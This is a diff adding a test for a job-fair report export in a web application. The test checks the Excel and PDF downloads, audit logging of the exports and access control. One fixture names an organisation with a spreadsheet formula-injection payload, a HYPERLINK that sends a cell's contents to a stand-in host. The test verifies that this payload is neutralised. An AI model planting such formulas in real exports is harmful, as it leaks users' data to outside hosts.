@@ -145,3 +145,45 @@ def test_fairs_api_lists_events_and_reports_to_staff(clerk, employer, seeker_use
     assert r.status_code == 200 and r.json()["registered"] == 1 and r.json()["posts"] == 1
     assert client_for(employer).get(f"/api/v1/market/fairs/{fair.pk}/report").status_code == 403
     assert client_for(clerk).get("/api/v1/market/fairs/999999/report").status_code == 404
+
+
+def test_report_downloads_as_excel_and_pdf_formula_safe_and_audited(clerk, employer, seeker_user, published, client_for):
+    import io
+
+    from openpyxl import load_workbook
+    from pypdf import PdfReader
+
+    from tests.factories import create_org
+    from zhihui.core.audit import AuditEvent
+
+    fair = fairs.save_fair(clerk, fair_data())
+    fairs.take_booth(employer, fair, posting_ids=[published.pk], booth_no="A01")
+    evil = create_org('=HYPERLINK("http://x.example/?"&A1,"点击")')
+    fairs.take_booth(clerk, fair, organisation=evil, booth_no="B02")
+    reg = fairs.register(seeker_user, fair)
+    fairs.check_in(clerk, fair, fairs.ticket(reg))
+    booth = fair.booths.get(booth_no="A01")
+    fairs.record_outcome(employer, booth, "agreement", registration_id=reg.pk)
+    c = client_for(clerk)
+    assert 'href="?format=xlsx"' in c.get(f"/market/fairs/{fair.pk}/report/").content.decode()
+
+    r = c.get(f"/market/fairs/{fair.pk}/report/?format=xlsx")
+    assert r.status_code == 200 and r["Content-Disposition"].endswith('.xlsx"')
+    wb = load_workbook(io.BytesIO(r.content))
+    summary = {row[0]: row[1] for row in wb.worksheets[0].iter_rows(values_only=True) if row and row[0]}
+    assert (summary["参会单位"], summary["岗位"], summary["入场人数(已签到)"], summary["达成就业意向"]) == (2, 1, 1, 1)
+    rows = list(wb.worksheets[1].iter_rows(values_only=True))
+    assert rows[0][:4] == ("展位号", "单位", "岗位", "招聘人数")
+    names = [row[1] for row in rows[1:]]
+    assert any(n.startswith("'=HYPERLINK(") for n in names)  # neutralised: text, not a formula
+    assert not any(cell.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for cell in row)
+
+    r = c.get(f"/market/fairs/{fair.pk}/report/?format=pdf")
+    assert r.status_code == 200 and r["Content-Type"] == "application/pdf" and r.content.startswith(b"%PDF")
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(r.content)).pages)
+    assert fair.name in text and "达成就业意向" in text and "A01" in text
+
+    exports = AuditEvent.objects.filter(action="export", object_type="market.fair", object_id=str(fair.pk))
+    assert sorted(e.summary.split("(")[1][:4] for e in exports) == ["pdf,", "xlsx"]
+    # the same people who may read the report may download it; an employer may not
+    assert client_for(employer).get(f"/market/fairs/{fair.pk}/report/?format=xlsx").status_code in (403, 404)
